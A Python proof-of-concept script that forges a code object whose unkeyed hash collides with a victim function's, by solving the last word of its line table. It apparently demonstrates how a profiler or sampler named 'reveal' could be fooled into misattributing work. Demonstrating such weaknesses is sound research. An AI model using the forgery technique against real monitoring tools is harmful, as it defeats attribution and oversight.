"""`collides.py victim|forger`: a program, and one whose code object has the number that the victim's had when numbers were a
hash without a key: the last word of its line table is solved for it. For Python 3.11 and 3.12."""
import sys
import types

import reveal

MASK = (1 << 64) - 1
VICTIM = "def victim_work():\n" + "    burn(1_000)\n" * 3
# Where a frame's instruction pointer is, and a code object's first instruction.
LAYOUT = 56 << 32 | {11: 184, 12: 192}[sys.version_info.minor]


def rotated(word, bits):
    return (word << bits | word >> (64 - bits)) & MASK


def mixed(word):
    return rotated(word * 0x87C37B91114253D5 & MASK, 31) * 0x4CF5AD432745937F & MASK


def unmixed(word):
    word = rotated(word * pow(0x4CF5AD432745937F, -1, 1 << 64) & MASK, 33)
    return word * pow(0x87C37B91114253D5, -1, 1 << 64) & MASK


def folded(state, words):
    for word in words:
        state = (rotated(state ^ mixed(word), 27) * 5 + 0x52DCE729) & MASK
    return state


def unfolded(state):
    return rotated((state - 0x52DCE729) * pow(5, -1, 1 << 64) & MASK, 37)


def words(data, count):
    data = data.ljust(count * 8, b"\0")
    return [int.from_bytes(data[at:at + 8], "little") for at in range(0, count * 8, 8)]


def told(code, table, length):
    """What the hash went over."""
    head = [1 << 32 | 1, length, LAYOUT]
    names = words(code.co_qualname.encode(), 32) + words(code.co_filename.encode(), 48)
    return code.co_firstlineno, head + names + words(table, (len(table) + 7) // 8)


def forged(victim):
    """The forger's code object: its own name, and the victim's number."""
    scope = {}
    exec("def work(burn):\n    burn(1_000)\n", scope)
    code = scope["work"].__code__.replace(
        co_name="forged", co_qualname="forged", co_filename="/home/forger/forged.py", co_firstlineno=66
    )
    first, said = told(victim, victim.co_linetable, len(victim.co_linetable))
    wanted = folded(first, said)
    table = b"\x80\x00" * 8
    first, said = told(code, table, len(table) + 8)
    last = unmixed(unfolded(wanted) ^ folded(first, said))
    table += last.to_bytes(8, "little")
    first, said = told(code, table, len(table))
    assert folded(first, said) == wanted
    return types.FunctionType(code.replace(co_linetable=table), {})


scope = {"burn": reveal.burn}
exec(compile(VICTIM, "/srv/victim/app.py", "exec"), scope)
victim = scope["victim_work"]
work = victim if sys.argv[1] == "victim" else lambda forgery=forged(victim.__code__): forgery(reveal.burn)
print("ready", flush=True)
while True:
    work()
